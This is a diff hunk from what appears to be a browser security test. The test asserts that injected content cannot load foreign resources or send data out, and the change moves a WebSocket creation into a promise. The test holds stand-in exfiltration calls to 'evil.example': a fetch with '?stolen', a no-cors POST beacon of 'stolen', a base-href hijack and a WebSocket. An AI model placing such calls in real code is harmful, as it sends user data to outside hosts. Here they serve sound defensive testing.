@@ -76,13 +76,13 @@ test('text becomes neither markup nor code, nothing foreign is loaded, nothing i
     document.body.setAttribute('style', 'opacity: 0');
     const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
     document.head.append(base);
-    const socket = new WebSocket('wss://evil.example/');
     return {
       style: await loaded(style),
       image: await loaded(image),
       fetch: await failed(fetch('https://evil.example/?stolen')),
       beacon: await failed(fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'stolen' })),
       socket: await failed(new Promise((done, refused) => {
+        const socket = new WebSocket('wss://evil.example/');
         socket.onopen = done;
         socket.onerror = refused;
       })),
